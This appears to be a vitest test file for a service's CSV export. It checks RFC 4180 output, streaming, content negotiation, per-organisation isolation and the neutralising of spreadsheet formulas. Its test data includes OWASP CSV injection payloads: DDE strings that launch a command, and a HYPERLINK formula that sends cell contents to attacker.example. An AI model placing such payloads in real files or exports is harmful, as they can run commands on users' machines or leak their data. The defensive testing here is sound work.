import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectEnvelope } from './support.js';
import { KEYS, startChangesService, type ChangesHarness } from '../changes/support.js';

/**
 * Reports and filter pages as CSV over real HTTP on the embedded database, for two organizations:
 * `Accept: text/csv` or `"format": "csv"`, read back by an RFC 4180 parser written here, against
 * the JSON answer of the same request and OWASP's rule for cells a spreadsheet would run.
 */

/** RFC 4180: records end with CRLF; a field is quoted when it holds a comma, a quote or a line end, quotes doubled. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') { field += '"'; i += 2; continue; }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') { i++; continue; }
    if (text.startsWith('\r\n', i)) { rows.push(row); row = []; i += 2; continue; }
    throw new Error(`expected a comma or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 5))}`);
  }
  if (row.length > 0) throw new Error('the last record has no CRLF');
  return rows;
}

/** What a cell must read: OWASP's neutralising quote before text a spreadsheet would take for a formula. */
function expectedCell(v: unknown): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'string') return /^[=+\-@\t\r]/.test(v) && !/^-?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(v) ? `'${v}` : v;
  if (typeof v === 'object') return JSON.stringify(v);
  return String(v);
}

// OWASP's CSV injection examples, and text that needs quoting.
const FORMULAS = [
  "=cmd|' /C calc'!A0", '=HYPERLINK("http://attacker.example/?x="&A1,"Click")', '+SUM(1+1)*cmd|\' /C calc\'!A0',
  "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '-42', 'plain, "quoted"\r\nnext line',
];
const SQL_PAYLOADS = readFileSync(new URL('../security/payloads/Generic_Fuzz.txt', import.meta.url), 'utf8').split('\n').filter((l) => l.trim() !== '').slice(0, 6);

let h: ChangesHarness;

beforeAll(async () => {
  h = await startChangesService('pglite');
  const names = [...FORMULAS, ...SQL_PAYLOADS].map((name, i) => ({ name: `${name}`, city: i % 2 ? 'Pune' : '=Delhi' }));
  const created = await h.call('POST', '/api/v1/org/objects/account/record/bulk_create', { key: KEYS.acmeAdmin, body: names });
  expect(created.status, created.text).toBe(200);
}, 120_000);

afterAll(async () => {
  await h?.close();
});

const REPORT = { query: 'SELECT name, city, industry, id FROM account ORDER BY id LIMIT 500', slug: 'account' };

async function csvOf(path: string, key: string, body: object, accept = 'text/csv') {
  const res = await fetch(h.baseUrl + path, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json', accept }, body: JSON.stringify(body) });
  return { status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), text: await res.text() };
}

describe('CSV answers', () => {
  it('answers a report as RFC 4180 CSV with a header row, every cell as the JSON answer has it, formulas neutralised', async () => {
    const json = await h.call('POST', '/api/v1/reports/execute', { key: KEYS.acmeAdmin, body: REPORT });
    expect(json.status, json.text).toBe(200);
    const records = json.json.data.records as Record<string, unknown>[];
    expect(records.length).toBe(2 + FORMULAS.length + SQL_PAYLOADS.length);
    const csv = await csvOf('/api/v1/reports/execute', KEYS.acmeAdmin, REPORT);
    expect(csv.status, csv.text).toBe(200);
    expect(csv.type).toBe('text/csv; charset=utf-8');
    expect(csv.disposition).toBe('attachment; filename="report.csv"');
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual(['name', 'city', 'industry', 'id']);
    expect(rows.slice(1)).toEqual(records.map((r) => ['name', 'city', 'industry', 'id'].map((k) => expectedCell(r[k]))));
    // No cell a spreadsheet reads as a formula: each begins with a neutralising quote, or is a plain number.
    for (const cell of rows.slice(1).flat()) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d/.test(cell)), cell).toBe(false);
    expect(rows.slice(1).map((r) => r[0])).toContain('-42');
    expect(rows.slice(1).map((r) => r[0])).toContain("'=cmd|' /C calc'!A0");
    // Another organization's CSV holds its own rows only.
    const other = parseCsv((await csvOf('/api/v1/reports/execute', KEYS.globexAdmin, REPORT)).text);
    expect(other.slice(1).map((r) => r[0])).toEqual(['Globex Retail']);
  });

  it('answers a filter page as CSV when the body says format csv, in the order of its fields, relations included', async () => {
    const query = { fields: ['name', 'account.name', 'status'], sort: [{ field: 'name', direction: 'asc' }], pagination: { page: 1, page_size: 50 } };
    const json = await h.call('POST', '/api/v1/org/objects/contact/filter', { key: KEYS.acmeAdmin, body: { query } });
    expect(json.status, json.text).toBe(200);
    const csv = await csvOf('/api/v1/org/objects/contact/filter', KEYS.acmeAdmin, { query, format: 'csv' }, '*/*');
    expect(csv.status, csv.text).toBe(200);
    expect(csv.disposition).toBe('attachment; filename="contact.csv"');
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual(['name', 'account.name', 'status']);
    expect(rows.slice(1)).toEqual((json.json.data.records as Record<string, unknown>[]).map((r) => query.fields.map((k) => expectedCell(r[k]))));
    expect(rows.slice(1).map((r) => r[0])).toEqual(['Asha Acme', 'Bala Acme', 'Chitra Acme']);
    const globex = parseCsv((await csvOf('/api/v1/org/objects/contact/filter', KEYS.globexAdmin, { query, format: 'csv' })).text);
    expect(globex.slice(1)).toEqual([['Gita Globex', 'Globex Retail', 'active']]);
  });

  it('writes the header alone for no rows, and keeps JSON for application/json, */* and no Accept', async () => {
    const none = await csvOf('/api/v1/reports/execute', KEYS.acmeAdmin, { query: "SELECT name AS n, city FROM account WHERE name = 'nobody' LIMIT 5", slug: 'account' });
    expect(none.status, none.text).toBe(200);
    expect(none.text).toBe('n,city\r\n');
    for (const accept of ['application/json', '*/*', 'text/csv;q=0.5, application/json']) {
      const a = await csvOf('/api/v1/reports/execute', KEYS.acmeAdmin, REPORT, accept);
      expect(a.type, accept).toMatch(/^application\/json/);
      expect(JSON.parse(a.text).success).toBe(true);
    }
    const plain = await h.call('POST', '/api/v1/reports/execute', { key: KEYS.acmeAdmin, body: { ...REPORT, format: 'json' } });
    expect(plain.status, plain.text).toBe(200);
  });

  it('streams a long answer in chunks, with no length given beforehand, row for row as the JSON answer', async () => {
    const many = Array.from({ length: 1_200 }, (_, i) => ({ name: `Streamed ${String(i).padStart(4, '0')}, "row"`, city: 'Pune' }));
    for (const part of [many.slice(0, 600), many.slice(600)]) {
      const created = await h.call('POST', '/api/v1/org/objects/account/record/bulk_create', { key: KEYS.globexAdmin, body: part });
      expect(created.status, created.text).toBe(200);
    }
    const report = { query: "SELECT name, city FROM account WHERE name LIKE 'Streamed%' ORDER BY name LIMIT 2000", slug: 'account' };
    const json = await h.call('POST', '/api/v1/reports/execute', { key: KEYS.globexAdmin, body: report });
    expect(json.status, json.text).toBe(200);
    const res = await fetch(h.baseUrl + '/api/v1/reports/execute', { method: 'POST', headers: { authorization: `Bearer ${KEYS.globexAdmin}`, 'content-type': 'application/json', accept: 'text/csv' }, body: JSON.stringify(report) });
    expect(res.status).toBe(200);
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    expect(res.headers.get('content-length')).toBeNull();
    const rows = parseCsv(await res.text());
    expect(rows).toHaveLength(1 + 1_200);
    expect(rows.slice(1)).toEqual((json.json.data.records as Record<string, unknown>[]).map((r) => [r.name, r.city]));
    expect(rows[1]).toEqual(['Streamed 0000, "row"', 'Pune']);
  });

  it('refuses an Accept it cannot answer with 406, and a format it does not know with 400, in the JSON envelope', async () => {
    for (const [path, body] of [['/api/v1/reports/execute', REPORT], ['/api/v1/org/objects/contact/filter', { query: { fields: ['name'] } }]] as const) {
      const res = await fetch(h.baseUrl + path, { method: 'POST', headers: { authorization: `Bearer ${KEYS.acmeAdmin}`, 'content-type': 'application/json', accept: 'application/xml' }, body: JSON.stringify(body) });
      const text = await res.text();
      expectEnvelope({ status: res.status, text, json: JSON.parse(text) } as never, 406, 'NOT_ACCEPTABLE');
      const bad = await h.call('POST', path, { key: KEYS.acmeAdmin, body: { ...body, format: 'xlsx' } });
      expectEnvelope(bad, 400, 'VALIDATION_FAILED');
    }
    // An error of the query itself stays the JSON envelope, with its status, when CSV was asked for.
    const wrong = await csvOf('/api/v1/reports/execute', KEYS.acmeAdmin, { query: 'SELECT nme FROM account LIMIT 5', slug: 'account' });
    expect(wrong.status).toBe(400);
    expect(JSON.parse(wrong.text).data.error_code).toBe('UNKNOWN_COLUMN');
  });
});
